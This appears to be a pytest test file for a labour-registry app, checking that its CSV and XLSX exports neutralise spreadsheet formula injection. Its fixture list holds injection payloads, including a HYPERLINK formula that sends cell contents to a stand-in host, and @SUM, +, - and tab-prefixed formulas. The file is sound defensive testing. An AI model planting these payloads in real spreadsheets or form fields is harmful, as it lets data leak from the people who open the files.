"""Exports write text, never formulas: every export of the app, fed hostile names, reads back as
text cells (XLSX) or quoted fields (CSV), while its figures stay numbers."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from lms.extensions import db
from tests.lms.stats.factories import id_number, make_household, make_member

VILLAGE = "621123100201"  # 示例一村, 清源镇
TOWNSHIP = "621123100000"
# (At most 40 characters: the longest household number.)
HOSTILE = ['=HYPERLINK("http://e.example/?"&A1,"点我")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1"]


def as_read(value: str) -> str:
    # XML turns a carriage return into a line feed: the text is otherwise what was written.
    return value.replace("\r", "\n")


@pytest.fixture
def hostile_registry(regions, make_user):
    """One household per hostile string, used as its number and as its head's name; and a plain one."""
    for k, text in enumerate(HOSTILE):
        household = make_household(VILLAGE, number=text)
        make_member(household, name=text, number=id_number(19800101 + k))
    make_member(make_household(VILLAGE, number="H-PLAIN"), name="张三", number=id_number(19790101))
    db.session.commit()
    return make_user("official", region_code=TOWNSHIP)


def _xlsx_rows(data: bytes):
    return [list(row) for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


def test_households_xlsx_writes_hostile_text_as_text(client, login, hostile_registry):
    login(client, hostile_registry)
    response = client.get("/households/export.xlsx")
    assert response.status_code == 200
    rows = _xlsx_rows(response.data)
    header = [c.value for c in rows[0]]
    number, name, size, year = (header.index(h) for h in ("户编号", "户主姓名", "人口数", "年度"))
    by_number = {as_read(r[number].value): r for r in rows[1:]}
    assert set(by_number) == {as_read(t) for t in HOSTILE} | {"H-PLAIN"}
    for text in HOSTILE:
        row = by_number[as_read(text)]
        assert (row[number].data_type, row[name].data_type) == ("s", "s"), text
        assert row[name].value == as_read(text)
        assert (row[size].data_type, row[size].value) == ("n", 1)
        assert (row[year].data_type, row[year].value) == ("n", 2024)


def test_households_csv_quotes_every_field_a_spreadsheet_would_evaluate(client, login, hostile_registry):
    login(client, hostile_registry)
    response = client.get("/households/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    header = rows[0]
    number, name, size = (header.index(h) for h in ("户编号", "户主姓名", "人口数"))
    by_number = {r[number]: r for r in rows[1:]}
    assert set(by_number) == {"'" + t for t in HOSTILE} | {"H-PLAIN"}
    for text in HOSTILE:
        row = by_number["'" + text]
        assert row[name] == "'" + text
        assert row[size] == "1"  # a number: left as it is
    assert by_number["H-PLAIN"][name] == "张三"


def test_region_table_xlsx_writes_region_names_as_text_and_figures_as_numbers(client, login,
                                                                              hostile_registry):
    from lms.regions.models import Region

    db.session.get(Region, VILLAGE).name = "=1+1"
    db.session.get(Region, "621123100202").name = "@SUM(1)"
    db.session.commit()
    login(client, hostile_registry)
    response = client.get(f"/stats/skills.xlsx?region={TOWNSHIP}")
    assert response.status_code == 200
    rows = _xlsx_rows(response.data)
    children = {r[0].value: r for r in rows[3:]}
    assert set(children) == {"=1+1", "@SUM(1)"}
    for row in children.values():
        assert row[0].data_type == "s"
        assert row[1].data_type == "n"  # laborers
    assert children["=1+1"][1].value == len(HOSTILE) + 1
    assert rows[2][1].data_type == "n" and rows[2][3].data_type == "n"  # the township's coverage


def test_follow_up_xlsx_writes_names_and_household_numbers_as_text(client, login, hostile_registry):
    login(client, hostile_registry)
    response = client.get(f"/stats/skills/followup.xlsx?region={VILLAGE}")
    assert response.status_code == 200
    rows = _xlsx_rows(response.data)
    assert [c.value for c in rows[1][:2]] == ["户编号", "姓名"]
    people = {r[1].value: r for r in rows[2:]}
    assert set(people) == {as_read(t) for t in HOSTILE} | {"张三"}
    for text in HOSTILE:
        row = people[as_read(text)]
        assert (row[0].data_type, row[1].data_type) == ("s", "s")
        assert row[0].value == as_read(text)
        assert row[4].data_type == "n"  # age


def test_the_helper_keeps_numbers_and_drops_what_xml_cannot_hold():
    from openpyxl import Workbook

    from lms.exports import append_row, csv_row

    assert csv_row(["=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", 5, -2, 2.5, None]) == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", 5, -2, 2.5, None]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    append_row(sheet, ["名\x01字", -2, "=A1"])
    buffer = io.BytesIO()
    book.save(buffer)
    row = _xlsx_rows(buffer.getvalue())[0]
    assert [(c.value, c.data_type) for c in row] == [("名字", "s"), (-2, "n"), ("=A1", "s")]


def test_the_open_cases_export_writes_hostile_names_and_notes_as_text(client, login, hostile_registry):
    from sqlalchemy import select

    from courses.models import Course, Programme, Skill
    from courses.services import seed_catalogue
    from lms.followup.services import assign
    from lms.followup.status import today
    from lms.households.models import Member

    seed_catalogue()
    programme = db.session.scalar(select(Programme).order_by(Programme.id))
    skill = db.session.scalar(select(Skill).order_by(Skill.id))
    course = Course(title="=1+1", summary="", programme_id=programme.id, skill_id=skill.id, published=True)
    db.session.add(course)
    db.session.commit()
    people = list(db.session.scalars(select(Member.id)))
    made = assign(None, people, course_id=course.id, due_on=today(), note="@SUM(A1:A9)")
    assert len(made.created) == len(HOSTILE) + 1
    db.session.commit()
    login(client, hostile_registry)
    response = client.get(f"/followup/cases.xlsx?region={VILLAGE}")
    assert response.status_code == 200
    rows = _xlsx_rows(response.data)
    people = {r[2].value: r for r in rows[2:]}
    assert set(people) == {as_read(t) for t in HOSTILE} | {"张三"}
    for text in HOSTILE:
        row = people[as_read(text)]
        assert [(c.value, c.data_type) for c in (row[1], row[2], row[3], row[8])] == [
            (as_read(text), "s"), (as_read(text), "s"), ("=1+1", "s"), ("@SUM(A1:A9)", "s")]


def test_the_stream_writer_keeps_numbers_and_drops_what_xml_cannot_hold():
    from lms.exports import xlsx_stream

    data = b"".join(xlsx_stream(iter([["名\x01字", -2, "=A1", 2.5, None, " a&<b> "]]), sheet="a/b"))
    row = _xlsx_rows(data)[0]
    assert [(c.value, c.data_type) for c in row] == [("名字", "s"), (-2, "n"), ("=A1", "s"), (2.5, "n"), (None, "n"),
                                                     (" a&<b> ", "s")]
